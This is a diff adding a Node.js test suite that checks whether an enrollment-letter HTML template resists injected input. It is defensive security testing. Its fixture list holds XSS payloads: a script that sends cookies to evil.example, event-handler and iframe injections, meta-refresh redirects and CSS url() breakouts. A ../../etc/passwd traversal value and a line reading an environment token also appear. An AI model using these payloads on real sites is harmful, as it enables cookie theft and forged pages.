@@ -0,0 +1,142 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+
+const { escapeHtml, escapeCssUrl, safeUrl, sanitizeText, safeFileNamePart } = require('../shared/escape');
+const { renderLetterHTML } = require('../shared/template');
+
+const letter = { title: 'Letter of Enrollment', template: 'enrollment' };
+
+const campus = (value) => ({
+  displayName: value || 'Mississauga',
+  address: value || '200-1515 Matheson Blvd Mississauga, ON L4W 2P5',
+  footerAddress: value || '200-1515 Matheson Blvd E, Mississauga, ON L4W 2P5',
+  phone: value || '+1-855-397-7737',
+  email: value || 'info@prepdoctors.ca'
+});
+
+const signatory = (value) => ({
+  name: value || 'Dipty Missra',
+  title: value || 'Client Relations Manager',
+  phone: value || '+1 855-397-7737',
+  extension: value || '116',
+  email: value || 'info@prepdoctors.ca',
+  signature: 'signatures/test.png'
+});
+
+const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+const assets = { fontFaces: '', logo: PIXEL, watermark: PIXEL, signature: PIXEL };
+
+const render = ({ date = 'March 5, 2025', courses = [{ name: 'Assessment of Fundamental Knowledge Course', duration: 'January 06, 2025 to March 28, 2025' }], ...overrides } = {}) => {
+  const view = {
+    contactName: 'Jane Doe',
+    campus: campus(),
+    signatory: signatory(),
+    assets,
+    verification: { documentId: '0A1B2-C3D4E-F5G6H-7J8K9', url: 'https://letters.example/verify/0A1B2-C3D4E-F5G6H-7J8K9', qrCode: PIXEL },
+    ...overrides
+  };
+  const column = { language: 'en', title: letter.title, date, campus: view.campus, courses, signatoryTitle: view.signatory.title };
+  return renderLetterHTML(letter, { ...view, languages: [column] });
+};
+
+// Sequence of tags and attribute names; hostile input must not change it
+const markupShape = (html) => [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)]
+  .map(([, tag, attrs]) => `${tag.toLowerCase()}[${[...attrs.matchAll(/([\w-]+)=/g)].map(m => m[1]).join(',')}]`);
+
+const HOSTILE_NAMES = {
+  'script tag': '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
+  'img onerror': '<img src=x onerror=alert(1)>',
+  'remote image': '"><img src="https://evil.example/pixel.png">',
+  'closing strong': '</strong><h1>FORGED</h1><strong>',
+  'attribute breakout': '" onload="alert(1)',
+  'single quote breakout': "' style='background:url(https://evil.example)",
+  'css import': '<style>@import url(https://evil.example/x.css);</style>',
+  'svg payload': '<svg/onload=alert(1)>',
+  'iframe': '<iframe src="https://evil.example"></iframe>',
+  'html comment': '<!-- --><script>alert(1)</script>',
+  'entity smuggling': '&lt;script&gt;alert(1)&lt;/script&gt;',
+  'base tag': '<base href="https://evil.example/">',
+  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  'backtick': '`${process.env.HS_TOKEN2}`',
+  'null byte': 'Jane\u0000<script>',
+};
+
+for (const [label, name] of Object.entries(HOSTILE_NAMES)) {
+  test(`hostile name does not alter the letter markup: ${label}`, () => {
+    const html = render({ contactName: name, campus: campus(name), signatory: signatory(name), date: name,
+      courses: [{ name, duration: name }] });
+
+    assert.deepEqual(markupShape(html), markupShape(render()));
+    assert.doesNotMatch(html, /evil\.example[^<]*<\/?(script|img|iframe|style|base|meta)/i);
+    assert.doesNotMatch(html, /<script|<iframe|<svg|<base|<meta http-equiv|onerror=|onload=/i);
+  });
+}
+
+test('right-to-left override characters are removed from names', () => {
+  const name = 'Jane \u202Etxt.exe\u202C Doe \u2066isolate\u2069 \u202Bembed\u202C';
+  const html = render({ contactName: name });
+  assert.doesNotMatch(html, /[\u202A-\u202E\u2066-\u2069]/);
+  assert.match(html, /Dr\.Jane txt\.exe Doe isolate embed/);
+});
+
+test('legitimate right-to-left names are kept', () => {
+  const html = render({ contactName: 'محمد عبد الله' });
+  assert.match(html, /Dr\.محمد عبد الله/);
+});
+
+test('emoji and accented names render verbatim', () => {
+  const name = 'Zoë 👩‍⚕️ Ångström-Nuñez';
+  const html = render({ contactName: name });
+  assert.ok(html.includes(`Dr.${name}`));
+});
+
+test('very long names are escaped in full and allowed to wrap', () => {
+  const name = `${'A'.repeat(5000)}<b>${'B'.repeat(5000)}`;
+  const html = render({ contactName: name });
+  assert.ok(html.includes(`${'A'.repeat(5000)}&lt;b&gt;${'B'.repeat(5000)}`));
+  assert.match(html, /\.main-content p \{[^}]*overflow-wrap: anywhere/);
+  assert.deepEqual(markupShape(html), markupShape(render()));
+});
+
+test('escapeHtml covers text and quoted attribute contexts', () => {
+  assert.equal(escapeHtml(`<a href="x" title='y'>&\`=`), '&lt;a href&#61;&quot;x&quot; title&#61;&#39;y&#39;&gt;&amp;&#96;&#61;');
+  assert.equal(escapeHtml(null), '');
+  assert.equal(escapeHtml(undefined), '');
+  assert.equal(escapeHtml(42), '42');
+});
+
+test('escapeCssUrl keeps a value inside its url() token', () => {
+  const escaped = escapeCssUrl("x'); background: url('https://evil.example/a.png");
+  assert.doesNotMatch(escaped, /['()]/);
+  assert.equal(escapeCssUrl('https://cdn.example/a%20b.png'), 'https://cdn.example/a%20b.png');
+});
+
+test('the watermark URL cannot leave its style attribute', () => {
+  for (const watermark of ["x'); background: url('https://evil.example/a.png", 'x&#39;);color:red;(&#39;', '" onload="alert(1)']) {
+    const html = render({ assets: { ...assets, watermark } });
+    // The CSS parser sees the attribute after the HTML parser decodes it
+    const style = html.match(/<div class="watermark" style="([^"]*)"/)[1]
+      .replace(/&#(\d+);/g, (entity, code) => String.fromCharCode(code))
+      .replace(/&(amp|quot|lt|gt);/g, (entity, name) => ({ amp: '&', quot: '"', lt: '<', gt: '>' })[name]);
+    assert.match(style, /^background-image: url\('[^']*'\);$/, watermark);
+    assert.deepEqual(markupShape(html), markupShape(render()), watermark);
+  }
+});
+
+test('safeUrl only allows https and inline images', () => {
+  assert.equal(safeUrl('https://cdn.example/file.pdf'), 'https://cdn.example/file.pdf');
+  assert.equal(safeUrl('data:image/png;base64,iVBORw0KGgo='), 'data:image/png;base64,iVBORw0KGgo&#61;');
+  assert.equal(safeUrl('javascript:alert(1)'), '');
+  assert.equal(safeUrl('http://plain.example/'), '');
+  assert.equal(safeUrl('data:text/html;base64,PHNjcmlwdD4='), '');
+  assert.equal(safeUrl(' JaVaScRiPt:alert(1)'), '');
+});
+
+test('sanitizeText strips control characters but keeps ordinary whitespace', () => {
+  assert.equal(sanitizeText('a\u0007b\u009Fc\td\ne'), 'abc\td\ne');
+});
+
+test('safeFileNamePart cannot introduce path segments', () => {
+  assert.equal(safeFileNamePart('../../etc/passwd'), '______etc_passwd');
+  assert.equal(safeFileNamePart('TEST-001_a'), 'TEST-001_a');
+});